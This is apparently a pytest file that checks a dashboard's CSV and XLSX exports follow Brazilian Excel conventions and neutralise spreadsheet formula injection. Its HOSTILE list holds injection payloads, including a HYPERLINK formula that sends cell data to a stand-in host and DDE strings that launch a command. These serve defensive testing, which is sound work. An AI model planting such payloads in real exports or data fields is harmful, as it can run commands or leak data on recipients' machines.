"""Exports for a Brazilian Excel, and formula injection neutralised (OWASP) in every CSV and XLSX.

Hostile client names go through the three doors an export has: a drill-down list, a view table,
and the API (``export.write_table`` / ``dash.export_frame`` on any frame).
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime, timezone

import duckdb
import openpyxl
import pandas as pd
import pytest

from dashdata import DEFAULT, NOW, build
from workbench.services import dashboard as dash
from workbench.services import export
from workbench.services.formatting import Column

HOSTILE = ['=HYPERLINK("http://x/?d="&A1,"Clique")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_desk(tmp_path_factory):
    wb, sup, _adm, _op = build(tmp_path_factory.mktemp("dash") / "dash.duckdb")
    con = duckdb.connect(str(wb.path))
    for client_id, name in ((1, HOSTILE[0]), (2, HOSTILE[1]), (3, HOSTILE[2])):
        con.execute("UPDATE clients SET name = ? WHERE client_id = ?", [name, client_id])
    con.close()
    return wb, sup


def _csv_cells(payload: bytes) -> list[list[str]]:
    text = payload.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _assert_csv_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                # only a digits-only code kept as text, or a plain number we wrote
                assert (cell.startswith('="') and cell[2:-1].isdigit()) or cell.lstrip("+-").replace(",", "") \
                    .rstrip("%").isdigit(), cell


def _assert_xlsx_safe(payload: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(payload)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode(), f"a formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(payload))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.value


def test_hostile_names_in_a_list_export_are_text_in_csv_and_xlsx(hostile_desk, tmp_path):
    wb, sup = hostile_desk
    for fmt in ("csv", "xlsx"):
        path = dash.export_list(sup, DEFAULT, None, fmt, directory=tmp_path, now=NOW)
        payload = path.read_bytes()
        if fmt == "csv":
            rows = _csv_cells(payload)
            _assert_csv_safe(rows)
            names = {r[rows[0].index("Cliente")] for r in rows[1:]}
            assert "'" + HOSTILE[0] in names and "'" + HOSTILE[1] in names
        else:
            _assert_xlsx_safe(payload)
            back = export.read_back(path)
            assert set(back["Cliente"]) >= {HOSTILE[0], HOSTILE[1], HOSTILE[2]}   # the text itself, intact


def test_hostile_values_in_view_and_api_exports(hostile_desk, tmp_path):
    wb, sup = hostile_desk
    frame = pd.DataFrame({"protocol": ["20261127000001"] * len(HOSTILE), "name": HOSTILE,
                          "n": range(len(HOSTILE)), "delta": [-2.5] * len(HOSTILE)})
    for fmt in ("csv", "xlsx"):
        name, payload = dash.export_frame(sup, frame, "api", DEFAULT, fmt)          # the API's export
        path = export.write_table(frame, tmp_path / f"t.{fmt}")                    # and the plain writer
        for data in (payload, path.read_bytes()):
            if fmt == "csv":
                rows = _csv_cells(data)
                _assert_csv_safe(rows)
                assert [r[1] for r in rows[1:]] == ["'" + h for h in HOSTILE]
                assert rows[1][3] == "-2,5"                                         # a number stays a number
            else:
                _assert_xlsx_safe(data)
    data = dash.refresh(sup, DEFAULT, now=NOW)
    rows = _csv_cells(dash.export_view(sup, data, "operators", "csv")[1])
    _assert_csv_safe(rows)


def test_csv_follows_the_pt_br_excel_rules():
    frame = pd.DataFrame({"protocol": ["20261127000001"], "rate": [0.44680851063829785], "n": [12345],
                          "at": [datetime(2026, 11, 27, 23, 57, 47, 342774, tzinfo=timezone.utc)],
                          "ok": [True], "h": [12.345]})
    spec = [Column("protocol", "Protocolo", "code"), Column("rate", "Taxa", "pct"), Column("n", "Qtd.", "int"),
            Column("at", "Aberto em", "datetime"), Column("ok", "Resolvido", "bool"),
            Column("h", "Mediana (horas)", "hours")]
    payload = export.table_bytes(frame, "csv", columns=spec)
    assert payload.startswith(b"\xef\xbb\xbf") and b"\r\n" in payload                # UTF-8 with BOM, CRLF
    rows = _csv_cells(payload)
    assert rows[0] == ["Protocolo", "Taxa", "Qtd.", "Aberto em", "Resolvido", "Mediana (horas)"]
    assert rows[1] == ['="20261127000001"', "44,7%", "12345", "27/11/2026 20:57", "Sim", "12,3"]
    assert export.CSV_OPTIONS["sep"] == ";" and export.CSV_OPTIONS["encoding"] == "utf-8-sig"


def test_xlsx_has_typed_cells_formats_widths_a_bold_frozen_header_and_the_filters_first():
    frame = pd.DataFrame({"protocol": ["20261127000001"], "rate": [0.4468], "n": [12345],
                          "at": [datetime(2026, 11, 27, 23, 57, tzinfo=timezone.utc)], "name": ["Ana"]})
    spec = [Column("protocol", "Protocolo", "code"), Column("rate", "Taxa", "pct"), Column("n", "Qtd.", "int"),
            Column("at", "Aberto em", "datetime"), Column("name", "Cliente")]
    filters = [("Período", "29/10/2026 a 27/11/2026"), ("Origem", "E-mail")]
    book = openpyxl.load_workbook(io.BytesIO(export.table_bytes(frame, "xlsx", columns=spec, filters=filters)))
    assert book.sheetnames == ["Filtros", "dados"]
    assert [[c.value for c in r] for r in book["Filtros"].iter_rows()] == [["Filtro", "Valor"], *map(list, filters)]
    ws = book["dados"]
    assert ws.freeze_panes == "A2" and all(c.font.bold for c in ws[1])
    protocol, rate, n, at, name = ws[2]
    assert protocol.value == "20261127000001" and protocol.data_type == "s"
    assert rate.value == pytest.approx(0.447) and rate.number_format == "0.0%"
    assert n.value == 12345 and n.number_format == "#,##0"
    assert at.value == datetime(2026, 11, 27, 20, 57) and at.number_format == "dd/mm/yyyy hh:mm"
    assert ws.column_dimensions["A"].width >= 16 and ws.column_dimensions["E"].width >= 9
